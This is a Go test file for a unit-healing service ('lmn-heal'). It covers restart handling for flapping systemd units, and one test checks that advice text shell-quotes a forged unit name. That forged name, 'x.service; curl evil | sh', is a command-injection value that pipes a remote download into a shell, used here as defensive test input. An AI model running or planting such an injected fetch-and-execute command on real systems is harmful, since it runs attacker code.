package heal

import (
	"strings"
	"testing"
	"time"

	"github.com/lmn-heal/lmn/internal/record"
)

func flappingLine(t testing.TB, ts, since time.Time, subject map[string]string) record.Line {
	t.Helper()
	return flappingIssue(t, ts, since, "unit_failed", subject)
}

// flappingIssue is a firing issue of rule held firing by lmn-detect's
// flapping hold.
func flappingIssue(t testing.TB, ts, since time.Time, rule string, subject map[string]string) record.Line {
	t.Helper()
	is := record.Issue{
		Header: record.NewHeader(record.KindIssue, "lmn-detect", "h", ts),
		ID:     rule + "/" + subjectKey(subject), Rule: rule, Subject: subject,
		State: record.StateFiring, Severity: record.SeverityWarning, Since: record.Time{Time: since}, Flapping: true,
	}
	return lineOfRecord(t, is, record.KindIssue)
}

// TestFlappingHoldReadsTheUnit: lmn-detect holds a flapping unit's issue
// firing after the unit is back. At the end of the window the unit's real
// state decides: up, it is recovered (not restarted again while it runs),
// and a crash during the hold (a firing record with a later since) is a
// new failure, judged by the uptime since.
func TestFlappingHoldReadsTheUnit(t *testing.T) {
	h := newHarness(t, nil, false)
	a := unit("a.service")
	h.observe(issueLine(t, t0, "unit_failed", record.StateFiring, record.SeverityWarning, a))
	h.complete(ok)
	h.observe(flappingLine(t, at(t, "2s"), t0, a)) // back, but held firing
	h.observe(sampleLine(t, at(t, "2m")))
	h.unitIs("active/running")
	h.want("1:restart_unit:started 1:restart_unit:succeeded 1:restart_unit:verified:recovered")
	if h.e.Tracked() != 1 {
		t.Fatalf("the held issue is no longer tracked")
	}
	// It crashes five minutes later, while still held.
	h.observe(flappingLine(t, at(t, "7m"), at(t, "7m"), a))
	if len(h.jobs) != 1 || h.jobs[0].Action != "restart_unit" {
		t.Fatalf("no restart for the crash during the hold: %s", h.phases())
	}
	if r := h.recs[len(h.recs)-1]; r.Attempt != 1 || r.UptimeSeconds == nil || *r.UptimeSeconds != 420 {
		t.Errorf("restart after the hold: %+v, want attempt 1 after 7m up", r)
	}
	// Repeated records of the same failure change nothing.
	h.complete(ok)
	n := len(h.recs)
	h.observe(flappingLine(t, at(t, "7m1s"), at(t, "7m"), a))
	if len(h.recs) != n || len(h.jobs) != 0 {
		t.Errorf("a repeated record acted: %s", h.phases())
	}
}

// TestAdviceQuotesValues: a forged unit name comes out of advice as one
// shell word, never ready to paste as a command.
func TestAdviceQuotesValues(t *testing.T) {
	h := newHarness(t, nil, false)
	bad := map[string]string{"unit": "x.service; curl evil | sh", "scope": "user"}
	h.observe(issueLine(t, t0, "unit_failed", record.StateFiring, record.SeverityWarning, bad))
	h.complete(Result{Tier: record.TierUnprivileged, Err: "no"})
	h.observe(sampleLine(t, at(t, "30s")))
	h.complete(Result{Tier: record.TierUnprivileged, Err: "no"})
	adv := h.recs[len(h.recs)-1]
	if adv.Phase != record.PhaseAdvised {
		t.Fatalf("records %s", h.phases())
	}
	want := `'x.service; curl evil | sh' keeps failing: read its log (journalctl --user -u 'x.service; curl evil | sh')`
	if !strings.HasPrefix(adv.Advice, want) {
		t.Errorf("advice %q\nwant it to start %q", adv.Advice, want)
	}
	if strings.Contains(strings.ReplaceAll(adv.Advice, "'x.service; curl evil | sh'", ""), "curl") {
		t.Errorf("an unquoted value in %q", adv.Advice)
	}
}

// TestFlappingReturnWithinTheWindow: the unit crashes again while its
// restart is being verified and the issue is held firing: the return (a
// later since) shows the restart healed it for a while; it is restarted
// at once, a fresh count, not after the window and with step 2.
func TestFlappingReturnWithinTheWindow(t *testing.T) {
	h := newHarness(t, nil, false)
	a := unit("redis.service")
	h.observe(issueLine(t, t0, "unit_failed", record.StateFiring, record.SeverityWarning, a))
	h.complete(ok)
	h.observe(flappingLine(t, at(t, "1s"), t0, a))            // back up, held firing
	h.observe(flappingLine(t, at(t, "45s"), at(t, "45s"), a)) // crashed again
	h.want("1:restart_unit:started 1:restart_unit:succeeded 1:restart_unit:verified:recovered 1:restart_unit:started")
	if r := h.recs[3]; r.Attempt != 1 || r.UptimeSeconds == nil || *r.UptimeSeconds != 45 {
		t.Errorf("restart after the return: %+v", r)
	}
}

// TestFiresAgainWhileTheUnitIsRead: the issue resolves, and fires again
// (a later since) while lmn-heal reads the unit's state. The answer is
// about the resolution: the step healed it until then (recovered, even
// when the state could not be read), and the new failure climbs the
// ladder again rather than being taken for the old one going on.
func TestFiresAgainWhileTheUnitIsRead(t *testing.T) {
	for _, answer := range []Result{{State: "active/running"}, {Err: "no ActiveState in \"\""}} {
		h := newHarness(t, nil, false)
		a := unit("a.service")
		h.observe(issueLine(t, t0, "unit_failed", record.StateFiring, record.SeverityWarning, a))
		h.complete(ok)
		h.observe(issueLine(t, at(t, "40s"), "unit_failed", record.StateResolved, record.SeverityWarning, a))
		h.observe(issueLineSince(t, at(t, "41s"), at(t, "41s"), "unit_failed", record.SeverityWarning, a))
		if len(h.jobs) != 1 || !h.jobs[0].Check {
			t.Fatalf("%+v: want the unit state check outstanding, have %+v", answer, h.jobs)
		}
		h.complete(answer)
		h.want("1:restart_unit:started 1:restart_unit:succeeded 1:restart_unit:verified:recovered 1:restart_unit:started")
	}
}
